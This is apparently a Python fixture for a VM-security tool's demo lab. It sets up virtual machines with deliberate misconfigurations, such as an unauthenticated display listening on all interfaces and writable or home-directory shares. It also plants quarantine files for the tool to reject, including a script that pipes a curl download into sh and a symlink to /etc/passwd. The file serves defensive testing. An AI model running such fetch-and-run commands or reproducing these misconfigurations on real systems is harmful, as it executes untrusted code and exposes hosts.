"""What the demo lab holds: five VMs with the misconfigurations admins really make, and
one finished job's quarantine with a few files that must not reach public space."""

from __future__ import annotations

import os
from pathlib import Path

from vmguard.demo.lab import DomainSpec, Share

MANAGED = ["gleam-batch-01", "gleam-batch-02", "gleam-batch-03", "gleam-build-01"]
UNMANAGED = "scratch-test"  # on the hypervisor, in no inventory
JOB = "job-4711"


def domains(lab: Path) -> list[DomainSpec]:
    inp = Share("input", f"{lab}/vmdata/input")
    out = Share("output", f"{lab}/vmdata/quarantine/{{}}", read_only=False)

    def output(vm: str) -> Share:
        return Share(out.tag, out.host_path.format(vm), read_only=False)

    return [
        # follows the policy
        DomainSpec("gleam-batch-01", shares=(inp, output("gleam-batch-01"))),
        # "just for a quick test": clipboard on, SPICE open to the network, no password
        DomainSpec(
            "gleam-batch-02",
            clipboard=True,
            display_listen="0.0.0.0",  # noqa: S104  # nosec B104 - the demo VM's mistake
            shares=(inp, output("gleam-batch-02")),
        ),
        # input share made writable, and someone's home directory shared in
        DomainSpec(
            "gleam-batch-03",
            shares=(Share("input", inp.host_path, read_only=False), Share("home", f"{lab}/home")),
        ),
        # NAT "to install one package": the guest can now reach the host's 127.0.0.1
        DomainSpec("gleam-build-01", network="user", usb=True, audio=True),
        DomainSpec(UNMANAGED, network="bridge", serial_tcp=True),
    ]


def fill_quarantine(path: Path) -> None:
    """Two good result files and four that vet must refuse."""
    path.mkdir(parents=True, exist_ok=True)
    (path / "histograms.json").write_text('{"pt": [1, 2, 3]}\n')
    (path / "summary.txt").write_text("events: 100000\nerrors: 0\n")
    script = path / "rerun.sh"
    script.write_text("#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    script.chmod(0o755)
    (path / "passwd").symlink_to("/etc/passwd")
    os.mkfifo(path / "pipe")
    (path / "core.bin").write_bytes(bytes(range(256)) * 16)
